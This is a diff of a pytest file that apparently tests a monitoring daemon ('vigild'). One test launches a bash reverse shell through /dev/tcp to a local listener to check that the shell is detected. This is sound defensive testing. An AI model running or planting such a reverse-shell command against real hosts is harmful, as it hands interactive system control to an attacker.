@@ -12,7 +12,7 @@ import time
 
 import pytest
 
-from conftest import action, free_port, get, helper, run_helper
+from conftest import action, clean_env, free_port, get, helper, run_helper
 
 PY = sys.executable
 
@@ -135,7 +135,7 @@ def test_connect_refused_ipv6(vigild):
     assert ev["error"]["code"] == "ECONNREFUSED"
 
 
-def test_reverse_shell_stdio(vigild):
+def test_reverse_shell_stdio(vigild, tmp_path):
     lst = socket.socket()
     lst.bind(("127.0.0.1", 0))
     lst.listen(1)
@@ -143,7 +143,8 @@ def test_reverse_shell_stdio(vigild):
     port = lst.getsockname()[1]
     sh = subprocess.Popen(
         ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec bash -i <&3 >&3 2>&3 3>&-"],
-        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+        env=clean_env(str(tmp_path)))
     conn = None
     try:
         conn, peer = lst.accept()
